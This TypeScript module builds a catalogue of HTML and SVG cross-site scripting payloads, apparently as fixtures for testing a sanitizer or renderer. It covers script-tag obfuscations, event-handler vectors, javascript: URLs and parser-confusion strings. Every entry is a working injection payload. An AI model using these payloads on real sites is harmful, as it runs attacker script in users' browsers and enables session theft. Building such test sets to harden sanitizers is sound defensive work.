import { family, type Payload } from './payload'

/** HTML and SVG that runs a script at once or at the first touch. */
export function htmlThatRuns(origin: string): Payload[] {
  return family(
    origin,
    {
      'run-script-inline': ({ script }) => `Some <script>${script}</script> words`,
      'run-script-src': ({ url }) => `<script src="${url}"></script>`,
      'run-script-module': ({ url }) => `<script type="module">import '${url}'</script>`,
      'run-script-upper': ({ script }) => `<SCRIPT>${script}</SCRIPT>`,
      'run-script-slash': ({ script }) => `<script/x>${script}</script/x>`,
      'run-script-in-script': ({ script }) => `<scr<script>ipt>${script}</scr</script>ipt>`,
      'run-script-entities': ({ script }) => `&lt;script&gt;${script}&lt;/script&gt;`,
      'run-script-wide-brackets': ({ script }) => `＜script＞${script}＜/script＞`,
      'run-img-onerror': ({ script }) => `<img src=x onerror="${script}">`,
      'run-img-onerror-slashes': ({ script }) => `<img/src=x/onerror="${script}">`,
      'run-img-onerror-newlines': ({ script }) => `<img\nsrc=x\nonerror\n=\n"${script}">`,
      'run-img-onload': ({ url, script }) => `text <img src="${url}" onload="${script}"> text`,
      'run-details': ({ script }) =>
        `<details open ontoggle="${script}"><summary>s</summary></details>`,
      'run-marquee': ({ script }) => `<marquee onstart="${script}">moving</marquee>`,
      'run-input-autofocus': ({ script }) => `<input autofocus onfocus="${script}">`,
      'run-select-autofocus': ({ script }) => `<select autofocus onfocus="${script}"></select>`,
      'run-video-onerror': ({ script }) => `<video><source onerror="${script}"></video>`,
      'run-audio-onerror': ({ script }) => `<audio src onerror="${script}">`,
      'run-body-onload': ({ script }) => `<body onload="${script}" onpageshow="${script}">`,
      'run-iframe-script': ({ script }) => `<iframe src="javascript:${script}"></iframe>`,
      'run-iframe-srcdoc': ({ script }) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
      'run-object-data': ({ script }) =>
        `<object data="data:text/html,<script>${script}</script>"></object>`,
      'run-embed-script': ({ script }) => `<embed src="javascript:${script}">`,
      'run-form-action': ({ script }) =>
        `<form action="javascript:${script}"><button>OK</button></form>`,
      'run-meta-refresh': ({ script }) =>
        `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
      'run-anchor': ({ script }) => `<a href="javascript:${script}" onclick="${script}">a word</a>`,
      'run-hover': ({ script }) => `<b onmouseover="${script}" onpointerenter="${script}">bold</b>`,
      'run-content-editable': ({ script }) =>
        `<p contenteditable onblur="${script}" tabindex=1>p</p>`,
      'run-animation': ({ script }) =>
        `<b style="animation:caret 1s" onanimationstart="${script}">bold</b>`,
      'run-popover': ({ script }) =>
        `<button popovertarget=p>x</button><p popover id=p onbeforetoggle="${script}">`,
      'run-template': ({ script }) =>
        `<template shadowrootmode=open><img src=x onerror="${script}"></template>`,
      'run-noscript': ({ script }) =>
        `<noscript><p title="</noscript><img src=x onerror='${script}'>"></noscript>`,
      'run-custom-element': ({ script }) => `<x-card is="script" onclick="${script}">card</x-card>`,
      'run-dangerously-set': ({ script }) =>
        `<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=${script}>"}} />`,
      'run-xmp': ({ script }) => `<xmp><p title="</xmp><img src=x onerror='${script}'>"></xmp>`,
      'run-plaintext': ({ script }) => `<plaintext><img src=x onerror="${script}">`,
      'run-namespaces': ({ script }) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
      'run-math-href': ({ script }) => `<math href="javascript:${script}">CLICK</math>`,
      'run-math-action': ({ script }) =>
        `<math><maction actiontype="statusline" xlink:href="javascript:${script}">x</maction></math>`,
      'run-svg-onload': ({ script }) => `<svg onload="${script}"></svg>`,
      'run-svg-onload-slash': ({ script }) => `<svg/onload=${script.replaceAll("'", '`')}>`,
      'run-svg-script': ({ script }) => `<svg><script>${script}</script></svg>`,
      'run-svg-script-href': ({ url }) => `<svg><script href="${url}" xlink:href="${url}"/></svg>`,
      'run-svg-image': ({ url }) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
      'run-svg-use': ({ url }) => `<svg><use href="${url}#x" xlink:href="${url}#y"/></svg>`,
      'run-svg-fe-image': ({ url }) => `<svg><filter><feImage href="${url}"/></filter></svg>`,
      'run-svg-foreign-object': ({ script }) =>
        `<svg><foreignObject><img src="x" onerror="${script}"/></foreignObject></svg>`,
      'run-svg-animate': ({ script }) =>
        `<svg><a><animate attributeName=href values="javascript:${script}"/><text>x</text></a></svg>`,
      'run-svg-set': ({ script }) => `<svg><set onbegin="${script}" attributeName=x /></svg>`,
      'run-svg-style': ({ url }) => `<svg><style>@import url(${url});</style></svg>`,
    },
    {
      'run-script-mixed': ({ script }) => `<ScRiPt\t>${script}</sCrIpT\t>`,
      'run-script-newline': ({ script }) => `<script\n>${script}</script\n>`,
      'run-script': ({ script }) => `<script>${script}</script>`,
      'run-script-never-closed': ({ script }) => `Before\n\n<script>\n${script}\n\n# still inside`,
      'run-script-late-close': ({ script }) =>
        `<script>\n\n${script}\n\n</script>\n\nand *after* it`,
    },
  )
}
